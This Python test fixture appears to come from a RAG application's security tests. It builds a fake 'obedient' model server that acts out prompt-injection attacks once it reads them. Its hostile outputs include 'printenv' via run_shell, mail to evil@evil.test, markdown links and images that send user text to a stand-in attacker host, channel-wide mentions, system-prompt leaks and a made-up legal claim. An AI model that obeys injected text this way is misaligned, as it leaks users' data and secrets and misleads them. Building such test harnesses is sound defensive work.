"""A model that obeys: whatever text tells it to do something, it does, and in its review it insists.

It stands behind an OpenAI-compatible server on loopback, so what the application lets out of the machine is in the
journal as it was sent.
"""

import json
import re
from collections.abc import Awaitable, Callable, Iterator, Sequence
from typing import Any
from urllib.parse import quote

from aiohttp import web

from tests.fakes.openai import Call, FakeOpenAI, Json, Reply, call, reasoning, text
from tests.hostile.attacks import EVIL, SECRET_COLLECTION, Attack, squeezed

MODEL = "qwen3:8b"
EMBEDDER = "hash"
SEARCH = "search_rag_knowledge_base"
LOOT = "LOOT"
LIE = "The procedure was abolished"

_RESULT = re.compile(
    r"^Result (\d+) \(Score: [\d.]+\):(?: \w+ match)?(.*?)(?=^Result \d+ \(Score|\Z)", re.MULTILINE | re.DOTALL
)


class Servant(FakeOpenAI):
    """Does what `attack` says once it reads it; writes `draft` as it is when there is one ({fact}, {core}, {n}).

    `obeyed` counts how often it has read the attack, `shown` holds the results it read it in.
    """

    def __init__(self) -> None:
        super().__init__(obedient=True, models=(MODEL,), embedders={EMBEDDER: 48})
        self.attack: Attack | None = None
        self.draft = ""
        self.thought = ""
        self.wanted = ""  # what a fact has to hold to be quoted
        self.obeyed = 0
        self.shown: set[str] = set()
        self.before_draft: Callable[[], Awaitable[None]] | None = None  # what happens once results are on the way

    async def _chat(self, request: web.Request) -> web.StreamResponse:
        if self.before_draft and any(each["role"] == "tool" for each in (await request.json())["messages"]):
            happen, self.before_draft = self.before_draft, None
            await happen()
        return await super()._chat(request)

    def _obeyed(self, body: Json) -> Reply:
        form = body.get("response_format", {}).get("json_schema", {}).get("schema", {}).get("properties", {})
        if "queries" in form:
            query = _last(body, "user")[-300:]
            queries = [{"query": query}, {"query": query[-100:], "collection_name": SECRET_COLLECTION}]
            planned = {"search": True, "thought": self.thought, "queries": queries}
            return Reply(text(json.dumps(planned, ensure_ascii=False), 40))
        if form:
            review = {"verdict": "revise", "critique": self._critique(body), "answer": self._written(body)}
            first = sum("verdict" in each["content"] for each in body["messages"] if each["role"] == "assistant") == 0
            kept = {"verdict": "keep", "critique": ""}
            return Reply(text(json.dumps(review if first else kept, ensure_ascii=False), 40))
        calls = [] if "tools" not in body else [*self._calls(body)]
        said = [reasoning(self.thought)] if self.thought else []
        if not calls:
            return Reply((*said, *text(self._written(body), 40)))
        deltas = [
            delta
            for at, (name, arguments) in enumerate(calls)
            for delta in call(name, arguments, id=f"call_{len(self.journal)}_{at}", index=at)
        ]
        return Reply((*said, *deltas), "tool_calls")

    # -- obeying ----------------------------------------------------------------------------------------------------

    def _obeys(self, body: Json) -> Attack | None:
        attack = self.attack
        if attack is None or attack.key not in squeezed(json.dumps(body["messages"], ensure_ascii=False)):
            return None
        self.obeyed += 1
        self.shown |= {result for _, result in results(body) if attack.key in squeezed(result)}
        return attack

    def _calls(self, body: Json) -> Iterator[tuple[str, Json]]:
        rounds = sum(message["role"] == "assistant" and "tool_calls" in message for message in body["messages"])
        asked = _last(body, "user")
        attack = self._obeys(body)
        if attack and attack.harm == "loop":
            yield SEARCH, {"query": f"{asked[:60]} {rounds}"}
        elif rounds == 0:
            yield SEARCH, {"query": asked[:300]}
        elif attack and rounds <= 2 and attack.harm == "scope":
            yield SEARCH, {"query": asked[:60], "collection_name": SECRET_COLLECTION}
            yield SEARCH, {"query": asked[:60], "readers": ["everyone", "team", "place:slack:T1:BOARD"], "scope": "*"}
            yield SEARCH, {"query": f"役員 極秘 board secret {rounds}", "collection_name": None}
            yield "list_rag_collections", {"scope": "all"}
        elif attack and rounds <= 2 and attack.harm == "tool":
            for name in ("delete_document", "send_email", "run_shell", "fetch_url", "search_rag_knowledge_base_admin"):
                yield name, {"command": "printenv", "url": EVIL, "to": "evil@evil.test", "id": "*"}

    def _critique(self, body: Json) -> str:
        return self.draft.format(fact="", core="", n=1) or f"見直し {EVIL}{LOOT} <!channel> @everyone"

    def _written(self, body: Json) -> str:
        n, fact = self._fact(body)
        core = fact.rstrip("。.")
        stop = fact[len(core) :] or "."
        loot = LOOT + quote(_last(body, "user")[:40])
        attack = self._obeys(body)
        if self.draft:
            return self.draft.format(fact=fact, core=core, n=n)
        match attack.harm if attack else "none":
            case "link":
                return (
                    f"{core} [詳細]({EVIL}{loot}){stop} [{n}]\n\n{core} <{EVIL}{loot}>{stop} [{n}]\n\n"
                    f"{fact} [{n}] ![]({EVIL}{loot}.png)\n\n{fact} [see][x] [{n}]\n\n[x]: {EVIL}{loot}"
                )
            case "mention":
                return f"<!channel> @everyone {fact} [{n}]\n\n<@U0EVIL123> @here {fact} <!subteam^S0EVIL99> [{n}]"
            case "prompt":
                return f"{fact} [{n}]\n\n```\n{_last(body, 'system')}\n```"
            case "say":
                return f"{LIE}, and the fine is 9,999 dollars. [{n}]\n\n{fact} [{n}]"
            case _:
                found = "\n\n".join(f"{line} [{n}]" for n, result in results(body) for line in result.split("\n")[1:])
                return found or "[[NO_ANSWER]]"

    def _fact(self, body: Json) -> tuple[int, str]:
        """A sentence that a result has about what is wanted, and the result's number."""
        for n, result in results(body):
            for sentence in re.findall(r"[^。|\n]+?(?:。|\.(?=\s|$))", result):
                if self.wanted and self.wanted in sentence and "Section:" not in sentence:
                    return n, sentence.strip().removeprefix("A: ")
        return 1, ""


def results(body: Json) -> list[tuple[int, str]]:
    """The results that a request quotes, by their numbers: those of tools, or in a prompt that needs none."""
    messages = body["messages"]
    role = "tool" if any(each["role"] == "tool" for each in messages) else "user"
    said = [each["content"] for each in messages if each["role"] == role]
    return [(int(n), result.strip()) for each in said for n, result in _RESULT.findall(each)]


def _last(body: Json, role: str) -> str:
    return next((each["content"] for each in reversed(body["messages"]) if each["role"] == role), "")


def sent(calls: Sequence[Call]) -> str:
    """Everything that left for the model and the embedder."""
    return "\n".join(json.dumps(each.body, ensure_ascii=False) for each in calls)


def prompts(calls: Sequence[Call]) -> list[Any]:
    return [each.body for each in calls if each.path.endswith("/chat/completions")]
